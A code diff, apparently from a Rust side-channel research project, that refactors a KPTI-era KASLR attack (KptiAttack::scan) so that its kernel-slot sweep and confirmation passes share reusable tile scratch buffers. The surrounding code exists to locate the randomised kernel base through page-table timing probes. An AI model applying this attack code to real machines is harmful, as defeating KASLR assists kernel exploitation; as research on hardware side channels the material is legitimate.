@@ -13,7 +13,7 @@ use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
 use crate::decision::{ConfirmConfig, Confirmer};
-use crate::primitives::PageTableAttack;
+use crate::primitives::{PageTableAttack, TileScratch};
 use crate::prober::Prober;
 use crate::recal::RecalConfig;
 
@@ -128,11 +128,21 @@ impl KptiAttack {
     /// the first slot that survives the confirmation protocol. The
     /// candidates are fed through the batched probe pipeline.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
+        self.scan_in(p, &mut TileScratch::default())
+    }
+
+    /// [`KptiAttack::scan`] on caller-kept tile buffers, shared by the
+    /// sweep and the confirmation re-visits.
+    pub(crate) fn scan_in<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        scratch: &mut TileScratch,
+    ) -> KptiScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
         let range = super::kaslr::KernelBaseFinder::candidate_range();
         let start = range.start;
-        let sweep = self.attack.sweep(p, &range);
+        let sweep = self.attack.sweep_in(p, &range, scratch);
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let mapped_slots: Vec<u64> = sweep
             .mapped
@@ -151,11 +161,12 @@ impl KptiAttack {
             None => (mapped_slots.first().copied(), legacy_confidence),
             Some(config) => {
                 let confirmer = Confirmer::new(&self.attack, config);
-                let found = confirmer.first_confirmed(
+                let found = confirmer.first_confirmed_in(
                     p,
                     mapped_slots
                         .iter()
                         .map(|&slot| (slot, start.wrapping_add(slot * KASLR_ALIGN))),
+                    scratch,
                 );
                 confirm_probes = found.probes;
                 match found.slot {
